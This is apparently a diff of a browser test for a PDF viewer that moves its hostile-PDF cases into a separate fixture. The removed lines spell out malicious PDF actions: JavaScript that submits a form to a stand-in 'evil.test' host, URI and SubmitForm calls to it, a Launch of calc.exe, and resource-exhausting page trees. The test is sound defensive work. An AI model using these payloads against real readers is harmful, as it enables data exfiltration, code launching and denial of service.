@@ -3,104 +3,16 @@ import { page, userEvent } from 'vitest/browser';
 import '../../styles.css';
 import { madeSource, markedWords, unspaced } from './documents.fixture.ts';
 import { mark, press, SENTENCE, showAnswer, status, viewer } from './open-viewer.fixture.tsx';
-import { type MadePage, type MadePdf, writeObjects, writePdf } from './write-pdf.fixture.ts';
+import { HOSTILE, LINES } from './hostile-pdfs.fixture.ts';
+import { writePdf } from './write-pdf.fixture.ts';
 
 vi.setConfig({ testTimeout: 90_000 });
 
-const LINES = ['The maximum height of a red', 'pine is about 43 m.'].map((text, at) => ({
-  text,
-  x: 60,
-  y: 700 - at * 16,
-}));
-const one = (more: Partial<MadePdf> = {}, sheet: Partial<MadePage> = {}) =>
-  writePdf({ pages: [{ lines: LINES, ...sheet }], ...more });
-const EVIL = 'https://evil.test/';
-const open = (action: string) => one({ catalogue: `/OpenAction<<${action}>>/AA<</WC<<${action}>>>>` });
-const link = (action: string) =>
-  one(
-    {},
-    {
-      entries: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<<${action}>>>>]/AA<</O<<${action}>>>>`,
-    },
-  );
-
-const found = (bytes: Uint8Array<ArrayBuffer>) => ({
-  bytes,
-  end: 'found',
-  sentence: /^Passage found on page 1$/,
-});
-const damaged = (bytes: Uint8Array<ArrayBuffer>) => ({
-  bytes,
-  end: 'not-found',
-  sentence: /damaged|too large/,
-});
-const text = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
-const latin1 = (words: string) => Uint8Array.from(words, (character) => character.charCodeAt(0));
-
-/** Ten kids that are one and the same, nine floors deep: a billion pages in one kilobyte. */
-const MANY_PAGES = writeObjects([
-  '<</Type/Catalog/Pages 2 0 R>>',
-  ...Array.from(
-    { length: 9 },
-    (_, floor) => `<</Type/Pages/Count ${10 ** (9 - floor)}/Kids[${`${floor + 3} 0 R `.repeat(10)}]>>`,
-  ),
-  '<</Type/Page/MediaBox[0 0 100 100]>>',
-]);
-/** The tree of pages holds itself. */
-const ENDLESS = writeObjects([
-  '<</Type/Catalog/Pages 2 0 R>>',
-  '<</Type/Pages/Count 1000000/Kids[3 0 R]>>',
-  '<</Type/Pages/Count 1000000/Parent 2 0 R/Kids[2 0 R]>>',
-]);
-
-const CASES: Record<string, { bytes: Uint8Array<ArrayBuffer>; end: string; sentence: RegExp }> = {
-  'an action in JavaScript': found(open(`/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${EVIL}"\\))`)),
-  'an address that opens with it': found(open(`/S/URI/URI(${EVIL})`)),
-  'a program to launch': found(open('/S/Launch/F(calc.exe)/NewWindow true')),
-  'a form that submits itself': found(open(`/S/SubmitForm/F<</FS/URL/F(${EVIL})>>`)),
-  'a link over all of the page': found(link(`/S/URI/URI(${EVIL})`)),
-  'a file inside': found(
-    one({ catalogue: '/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)>>]>>>>' }),
-  ),
-  'a form in XFA': found(
-    one({
-      catalogue:
-        '/AcroForm<</Fields[]/XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>)>>/NeedsRendering true',
-    }),
-  ),
-  'a content that is elsewhere': found(one({}, { entries: `/Thumb<</F<</FS/URL/F(${EVIL})>>>>` })),
-  '10,000 pieces of text': found(
-    one(
-      {},
-      {
-        lines: [
-          ...LINES,
-          ...Array.from({ length: 10_000 }, (_, at) => ({
-            text: `w${at % 97}`,
-            x: 40 + (at % 60) * 9,
-            y: 680 - Math.floor(at / 60) * 4,
-            size: 4,
-          })),
-        ],
-      },
-    ),
-  ),
-  'an image of 30,000 × 30,000': found(
-    one({}, { drawing: 'q 500 0 0 500 0 0 cm BI /W 30000 /H 30000 /BPC 8 /CS /RGB ID 0 EI Q' }),
-  ),
-  'a page of two million points': found(one({}, { size: [2_000_000, 842] })),
-  'a page as thin as a thread': found(one({}, { size: [595, 3_000_000] })),
-  'a broken table of objects': found(latin1(text(one()).replace(/startxref\n\d+/, 'startxref\n7'))),
-  'a tree of pages that holds itself': damaged(ENDLESS),
-  'a billion pages': damaged(MANY_PAGES),
-  'half of it missing': damaged(latin1(text(one()).slice(0, 700))),
-};
-
 it('PDFs that would run, ask, grow or never end: nothing leaves, nothing runs, the page stays alive, faults are told', async () => {
   const [opened, alerted] = [vi.spyOn(window, 'open'), vi.spyOn(window, 'alert')];
-  const names = Object.keys(CASES);
+  const names = Object.keys(HOSTILE);
   const documents = Object.fromEntries(
-    names.map((name, at) => [`${at}.pdf`, { bytes: CASES[name]?.bytes ?? latin1('') }]),
+    names.map((name, at) => [`${at}.pdf`, { bytes: HOSTILE[name]?.bytes ?? new Uint8Array() }]),
   );
   await showAnswer(documents);
   const place = location.href;
@@ -110,8 +22,8 @@ it('PDFs that would run, ask, grow or never end: nothing leaves, nothing runs, t
     (mark(index + 1).element() as HTMLElement).click();
     await expect
       .poll(() => [name, viewer()?.dataset['passage'], status()], { timeout: 40_000 })
-      .toEqual([name, CASES[name]?.end, expect.stringMatching(CASES[name]?.sentence ?? '')]);
-    const marks = CASES[name]?.end === 'found' ? [unspaced(SENTENCE)] : [];
+      .toEqual([name, HOSTILE[name]?.end, expect.stringMatching(HOSTILE[name]?.sentence ?? '')]);
+    const marks = HOSTILE[name]?.end === 'found' ? [unspaced(SENTENCE)] : [];
     await expect.poll(markedWords, { message: name }).toEqual(marks);
     // Nothing of the document can be pressed.
     expect(
